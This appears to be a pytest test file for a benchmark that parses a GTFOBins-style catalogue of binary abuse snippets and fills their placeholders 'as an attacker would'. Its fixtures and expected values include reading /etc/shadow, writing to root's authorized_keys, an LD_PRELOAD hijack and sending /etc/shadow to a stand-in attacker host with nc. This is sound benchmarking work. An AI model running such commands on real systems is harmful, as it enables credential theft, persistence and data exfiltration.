"""benchmarks/gtfobins_catalogue.py: it reads the catalogue's JSON form, fills the
placeholders as an attacker would, and reports per function; a file it cannot read is
one line and exit 2. The catalogue itself is not in the repository: these snippets are
written here in its shape."""

from __future__ import annotations

import importlib
import json
from pathlib import Path

import pytest

bench = importlib.import_module("benchmarks.gtfobins_catalogue")

CATALOGUE = {
    "zzcat": {
        "functions": {
            "file-read": [{"code": 'LFILE=file_to_read\nzzcat "$LFILE"\n'}],
            "sudo": [{"code": "sudo zzcat /path/to/file_to_read\n"}],
        }
    },
    "zzsend": {"functions": {"file-upload": [{"code": "zzsend attacker.com file_to_send\n"}]}},
}


def test_placeholders_are_filled_as_an_attacker_would() -> None:
    assert bench.filled("cat /path/to/file_to_read\n") == "cat /etc/shadow"
    assert bench.filled("x file_to_write") == "x /root/.ssh/authorized_keys"
    assert bench.filled("nc attacker.com 1 < file_to_send") == (
        "nc attacker.example 1 < /etc/shadow"
    )
    assert bench.filled("x -o file_to_save") == "x -o /usr/local/bin/gtfo"
    assert bench.filled("LD_PRELOAD=/path/to/lib.so x") == "LD_PRELOAD=/tmp/gtfo.so x"


def test_catalogue_is_read_in_order(tmp_path: Path) -> None:
    path = tmp_path / "c.json"
    path.write_text(json.dumps(CATALOGUE), encoding="utf-8")
    found = bench.load_catalogue(path)
    assert [(t.binary, t.function) for t in found] == [
        ("zzcat", "file-read"),
        ("zzcat", "sudo"),
        ("zzsend", "file-upload"),
    ]


def test_report_counts_every_snippet(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "c.json"
    path.write_text(json.dumps(CATALOGUE), encoding="utf-8")
    assert bench.main([str(path), "--list", "all"]) == 0
    out = capsys.readouterr().out
    assert "2 binaries" in out
    total = next(line for line in out.splitlines() if line.startswith("all "))
    assert total.split()[1] == "3"
    assert "3 snippets judged" in out


@pytest.mark.parametrize(
    "text",
    ["[1]", '{"x": {"functions": 3}}', "not json", '{"x": []}', '{"x": {"functions": {"a": 3}}}'],
)
def test_a_catalogue_it_cannot_read_is_one_line_and_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    path = tmp_path / "c.json"
    path.write_text(text, encoding="utf-8")
    assert bench.main([str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("cannot read catalogue") and err.count("\n") == 1
